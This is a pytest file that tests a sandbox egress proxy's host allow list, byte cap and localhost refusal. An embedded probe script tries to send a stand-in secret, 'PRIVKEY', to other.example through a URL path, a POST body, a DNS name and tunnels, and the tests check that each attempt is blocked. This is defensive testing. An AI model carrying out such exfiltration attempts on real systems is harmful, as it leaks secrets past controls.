"""What a command may carry out where it has an allow list; the number is a row of docs/sandbox.md.

Real sandbox, forwarder and proxy; a server on this machine's loopback stands in for the outside, whatever the name.
"""

import asyncio
import json
import shlex
from collections.abc import AsyncIterator, Awaitable, Callable, Mapping
from pathlib import Path

import pytest
from agentctl.orchestrator.environment import prepare
from agentctl.orchestrator.errors import SettingsError
from agentctl.orchestrator.ports import Git
from agentctl.orchestrator.sandbox.egress import Wanted
from agentctl.orchestrator.sandbox.port import Sandbox
from agentctl.orchestrator.sandbox.proxy import Caps, Streams, reach, served

from ..sandboxes import sandbox_or_skip

Tree = Callable[[Mapping[str, str]], Awaitable[str]]
SECRET = "PRIVKEY"


class Outside:
    """A server that keeps what it is told, and answers each request with one word."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        self.heard = b""
        self.port = 0

    async def meet(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        while chunk := await reader.read(65536):
            self.heard += chunk
            if self.heard.endswith(b"\r\n\r\n"):
                writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 7\r\nConnection: close\r\n\r\nreached")
                break
        writer.close()

    async def dial(self, place: Wanted) -> Streams:
        self.asked.append(str(place))
        return await asyncio.open_connection("127.0.0.1", self.port)


@pytest.fixture
async def outside() -> AsyncIterator[Outside]:
    made = Outside()
    server = await asyncio.start_server(made.meet, "127.0.0.1", 0)
    made.port = server.sockets[0].getsockname()[1]
    yield made
    server.close()


@pytest.fixture(params=["bwrap", "docker", "podman"])
async def sandbox(request: pytest.FixtureRequest) -> Sandbox:
    return await sandbox_or_skip(request.param)


LOOK = """
import os, socket, sys, urllib.request

def tried(name, do):
    try:
        print(name, do())
    except Exception as error:
        print(name, "failed", str(error)[:90])

def tunnel(target):
    host, port = os.environ["HTTPS_PROXY"].removeprefix("http://").split(":")
    with socket.create_connection((host, int(port)), timeout=20) as one:
        one.sendall(f"CONNECT {target} HTTP/1.1\\r\\n\\r\\n".encode())
        said = one.recv(1000).split(b"\\r\\n")[0].decode()
        if " 200 " not in said:
            return said
        one.sendall(b"GET / HTTP/1.1\\r\\n\\r\\n")
        return one.recv(1000).split(b"\\r\\n\\r\\n")[-1].decode()

tried("listed", lambda: urllib.request.urlopen("http://listed.example/a", timeout=20).read().decode())
tried("tunnel", lambda: tunnel("listed.example:443"))
tried("other", lambda: urllib.request.urlopen("http://other.example/PRIVKEY", timeout=20).read())
tried("address", lambda: tunnel("192.0.2.1:443"))
tried("port", lambda: tunnel("listed.example:22"))
tried("post", lambda: urllib.request.urlopen("http://listed.example/", data=b"PRIVKEY", timeout=20).read())
tried("direct", lambda: socket.create_connection(("192.0.2.1", 443), timeout=2))
tried("name", lambda: socket.getaddrinfo("PRIVKEY.other.example", 80))
tried("host", lambda: socket.create_connection(("127.0.0.1", int(sys.argv[1])), timeout=2))
"""


async def test_38_setting_up_reaches_the_hosts_on_the_list_and_nothing_else(
    git: Git, tree: Tree, sandbox: Sandbox, outside: Outside, tmp_path: Path
) -> None:
    setup = f"python -c {shlex.quote(LOOK)} {outside.port}; exit 7"
    made = await tree({"setup.cfg": ""})
    with pytest.raises(SettingsError) as failed:
        await prepare(
            git, made, sandbox=sandbox, cache=tmp_path, setup=setup, egress=("listed.example",), dial=outside.dial
        )
    said = {line.split()[0]: line for line in str(failed.value).splitlines() if line.strip()}
    assert (said["listed"], said["tunnel"]) == ("listed reached", "tunnel reached")
    for name in ("other", "address", "port", "post", "direct", "name", "host"):
        assert "reached" not in said[name]
    assert "failed (exit code 7)" in str(failed.value)
    assert "Not let through: other.example:80 is not in allow under [egress]" in str(failed.value)
    assert outside.asked == ["listed.example:80", "listed.example:443"]
    assert SECRET.encode() not in outside.heard
    (log,) = tmp_path.glob("*.egress.jsonl")
    lines = [json.loads(line) for line in log.read_text().splitlines()]
    assert [line["host"] for line in lines if "host" in line] == ["listed.example"] * 2
    assert any("192.0.2.1" in line.get("refused", "") for line in lines)


async def test_38_an_empty_list_lets_nothing_out_and_setting_up_still_works(
    git: Git, tree: Tree, sandbox: Sandbox, outside: Outside, tmp_path: Path
) -> None:
    setup = "python -c \"import urllib.request as u; u.urlopen('http://listed.example/')\" && exit 9; true"
    made = await prepare(
        git, await tree({"a": ""}), sandbox=sandbox, cache=tmp_path, setup=setup, egress=(), dial=outside.dial
    )
    assert (made.mounts[0].source / "ready").exists()
    assert outside.asked == []


async def test_38_where_a_list_cannot_be_held_nothing_is_set_up(git: Git, tree: Tree, tmp_path: Path) -> None:
    landlock = await sandbox_or_skip("landlock")
    with pytest.raises(SettingsError, match="landlock cannot hold allow under \\[egress\\]"):
        await prepare(
            git, await tree({"a": ""}), sandbox=landlock, cache=tmp_path, setup="true", egress=("packages.example",)
        )


async def test_38_no_more_bytes_go_out_than_the_cap_says(outside: Outside, tmp_path: Path) -> None:
    caps = Caps(sent=1000)
    async with served(tmp_path, ["*.example"], log=tmp_path / "log", dial=outside.dial, caps=caps) as proxy:
        reader, writer = await asyncio.open_unix_connection(str(tmp_path / "egress.sock"))
        writer.write(b"CONNECT a.example:443 HTTP/1.1\r\n\r\n")
        assert await reader.readuntil(b"\r\n\r\n") == b"HTTP/1.1 200 Connection established\r\n\r\n"
        writer.write(b"x" * 900)
        await writer.drain()
        writer.write(b"y" * 900)
        assert await reader.read() == b""
        assert proxy.traffic.refused == ["more than 1000 bytes were sent, and no more go out"]
        writer.close()
    assert b"y" not in outside.heard


async def test_38_a_listed_name_of_this_machine_is_not_reached(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("http_proxy", "https_proxy", "HTTP_PROXY", "HTTPS_PROXY", "all_proxy", "ALL_PROXY"):
        monkeypatch.delenv(name, raising=False)
    async with served(tmp_path, ["localhost"], log=tmp_path / "log", dial=reach):
        reader, writer = await asyncio.open_unix_connection(str(tmp_path / "egress.sock"))
        writer.write(b"CONNECT localhost:443 HTTP/1.1\r\n\r\n")
        assert b"localhost is a name of this machine" in await reader.read()
        writer.close()
